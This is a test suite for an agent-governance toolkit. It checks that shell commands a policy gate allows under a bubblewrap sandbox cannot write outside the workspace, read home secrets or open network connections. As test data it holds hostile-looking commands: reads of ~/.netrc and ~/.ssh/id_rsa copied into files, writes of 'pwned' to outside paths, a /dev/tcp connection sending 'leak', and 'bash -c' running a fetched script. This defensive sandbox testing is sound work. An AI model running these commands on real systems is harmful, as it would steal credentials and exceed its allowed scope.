import { existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, realpathSync, rmSync, writeFileSync } from 'node:fs';
import { createServer, type AddressInfo, type Server } from 'node:net';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { normalizeToolOutput, type GateCall, type GateContext, type ToolV1 } from '@warden/protocol';
import { createGate, loadShellAnalyzer, type PolicyGate, type ShellAnalyzer } from '@warden/governance';
import { createSandbox, createWorkspaceTools, probeSandbox, type Sandbox } from '@warden/tools';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';

// What the shell analyzer cannot decide, and leaves to the OS sandbox (rule `shell.sandboxed`: yolo
// runs it when the sandbox is on), must really be contained. Each command below is first shown to be
// one the gate lets through for that reason; then it runs for real, through the shell tool under
// bubblewrap, and the world is checked: nothing written outside, no home secret read, no connection made.
// Skipped only where bubblewrap cannot run (as the tools package's sandbox tests would fail there).

const status = await probeSandbox({});
const root = realpathSync(mkdtempSync(path.join(tmpdir(), 'warden-sbx-proof-')));
const WS = path.join(root, 'ws');
const HOME = path.join(root, 'home');
const OUTSIDE = path.join(root, 'outside.txt');
const SECRET = 'proof-secret-4711';
const clean: GateContext = { runId: 'r', step: 1, tainted: false };

let analyzer: ShellAnalyzer;
let gate: PolicyGate;
let sandbox: Sandbox;
let shell: ToolV1;
let bashShell: ToolV1;
let server: Server;
let connections = 0;
let port = 0;

async function run(tool: ToolV1, command: string): Promise<string> {
  const output = await tool.execute({ command }, { signal: new AbortController().signal, callId: 'c', runId: 'r', emit: () => undefined });
  return normalizeToolOutput(output).content.map((p) => (p.type === 'text' ? p.text : '')).join('\n');
}

const call = (command: string): GateCall => ({ id: 'c', name: 'shell', args: { command }, annotations: { mutating: true } });

/** Every file under the workspace, with its content: the secret must be in none of them. */
function workspaceText(dir = WS): string {
  return readdirSync(dir, { withFileTypes: true })
    .map((e) => (e.isDirectory() ? workspaceText(path.join(dir, e.name)) : readFileSync(path.join(dir, e.name), 'utf8')))
    .join('\n');
}

describe.skipIf(!status.available)('what the analyzer leaves to the sandbox is contained (shell.sandboxed)', () => {
  beforeAll(async () => {
    mkdirSync(path.join(HOME, '.ssh'), { recursive: true });
    mkdirSync(WS, { recursive: true });
    writeFileSync(path.join(HOME, '.netrc'), `machine x.example password ${SECRET}\n`);
    writeFileSync(path.join(HOME, '.ssh', 'id_rsa'), `-----BEGIN KEY----- ${SECRET}\n`);
    writeFileSync(OUTSIDE, 'untouched\n');
    server = createServer((socket) => {
      connections += 1;
      socket.destroy();
    });
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    port = (server.address() as AddressInfo).port;
    // The targets are read at run time from files: the analyzer cannot know them.
    writeFileSync(path.join(WS, 'target.txt'), `${OUTSIDE}\n`);
    writeFileSync(path.join(WS, 'secret-path.txt'), `${HOME}/.netrc\n`);
    writeFileSync(path.join(WS, 'out-name.txt'), 'copied.txt\n');
    writeFileSync(path.join(WS, 'addr.txt'), `/dev/tcp/127.0.0.1/${port}\n`);
    analyzer = await loadShellAnalyzer();
    gate = createGate({ workspace: WS, mode: 'yolo', shell: analyzer, sandbox: { active: true } });
    sandbox = createSandbox({ workspace: WS, mode: 'on', home: HOME });
    const env = { PATH: '/usr/local/bin:/usr/bin:/bin', HOME, LANG: 'C.UTF-8' };
    shell = createWorkspaceTools({ root: WS, allowShell: true, shell: { sandbox, env, timeoutMs: 30_000 } }).tools.find((t) => t.name === 'shell') as ToolV1;
    bashShell = createWorkspaceTools({ root: WS, allowShell: true, shell: { sandbox, env, timeoutMs: 30_000, shellPath: '/bin/bash' } }).tools.find((t) => t.name === 'shell') as ToolV1;
  });

  afterAll(async () => {
    analyzer?.dispose();
    sandbox?.close();
    await new Promise<void>((resolve) => (server ? server.close(() => resolve()) : resolve()));
    rmSync(root, { recursive: true, force: true });
  });

  const writesOutside: Array<[string, string]> = [
    ['a redirection to a path read at run time', 'T=$(cat target.txt); echo pwned > "$T"'],
    ['tee to a path read at run time', 'cat target.txt | while read -r t; do echo pwned | tee "$t"; done'],
    ['python3 -c writing a path it reads at run time', `python3 -c "p = open('target.txt').read().strip(); open(p, 'w').write('pwned')"`],
    ['node -e writing a path it reads at run time', `node -e "const fs = require('fs'); fs.writeFileSync(fs.readFileSync('target.txt', 'utf8').trim(), 'pwned')"`],
  ];

  it.each(writesOutside)('%s: yolo runs it for the sandbox, and the file outside stays untouched', async (_label, command) => {
    expect(await gate.decide(call(command), clean)).toMatchObject({ effect: 'allow', rule: 'shell.sandboxed' });
    await run(shell, command);
    expect(readFileSync(OUTSIDE, 'utf8')).toBe('untouched\n');
  });

  const readsHome: Array<[string, string]> = [
    ['cat of a home file named at run time, into a file named at run time', 'F=$(cat secret-path.txt); O=$(cat out-name.txt); cat "$F" > "$O"; cat "$O"'],
    ['python3 -c reading ~/.netrc and writing what it read', `python3 -c "import os; d = open(os.path.expanduser('~/.netrc')).read(); open(open('out-name.txt').read().strip(), 'w').write(d); print(d)"`],
    ['node -e reading ~/.ssh/id_rsa and writing what it read', `node -e "const fs = require('fs'); const d = fs.readFileSync(require('os').homedir() + '/.ssh/id_rsa', 'utf8'); fs.writeFileSync(fs.readFileSync('out-name.txt', 'utf8').trim(), d); console.log(d)"`],
  ];

  it.each(readsHome)('%s: the home directory is hidden, the secret appears nowhere', async (_label, command) => {
    expect(await gate.decide(call(command), clean)).toMatchObject({ effect: 'allow', rule: 'shell.sandboxed' });
    const output = await run(shell, command);
    expect(output).not.toContain(SECRET);
    expect(workspaceText()).not.toContain(SECRET);
  });

  it('a connection opened through a path read at run time (/dev/tcp) is refused: no network in the sandbox', async () => {
    const command = 'P=$(cat addr.txt); echo leak > "$P" && echo connected';
    expect(await gate.decide(call(command), clean)).toMatchObject({ effect: 'allow', rule: 'shell.sandboxed' });
    const output = await run(bashShell, command);
    expect(output).not.toContain('connected');
    expect(connections).toBe(0);
  });

  it('what hides its command or reaches the network is not left to the sandbox', async () => {
    // A command built at run time could be anything: a person decides, sandbox or not.
    expect(await gate.decide(call('bash -c "$(cat script.txt)"'), clean)).toMatchObject({ effect: 'ask', requiresPerson: true, rule: 'shell.undecidable' });
    // Network use is decided by the deny list and the taint guard, not waved through as "sandboxed".
    for (const command of [`python3 -c "import socket; socket.create_connection((open('host.txt').read(), 80))"`, 'curl "$(cat url.txt)"']) {
      expect((await gate.decide(call(command), clean)).rule, command).not.toBe('shell.sandboxed');
    }
  });

  it('nothing arrived late either', async () => {
    await new Promise((r) => setTimeout(r, 500));
    expect(readFileSync(OUTSIDE, 'utf8')).toBe('untouched\n');
    expect(connections).toBe(0);
    expect(existsSync(path.join(root, 'pwned'))).toBe(false);
  });

  it('the same commands without the sandbox do escape: the checks above can fail', async () => {
    const plain = createWorkspaceTools({ root: WS, allowShell: true, shell: { env: { PATH: '/usr/local/bin:/usr/bin:/bin', HOME }, timeoutMs: 30_000, shellPath: '/bin/bash' } }).tools.find((t) => t.name === 'shell') as ToolV1;
    await run(plain, 'P=$(cat addr.txt); echo leak > "$P"');
    await run(plain, 'T=$(cat target.txt); echo pwned > "$T"');
    expect(await run(plain, 'F=$(cat secret-path.txt); cat "$F"')).toContain(SECRET);
    expect(readFileSync(OUTSIDE, 'utf8')).toBe('pwned\n');
    expect(connections).toBe(1);
  });
});
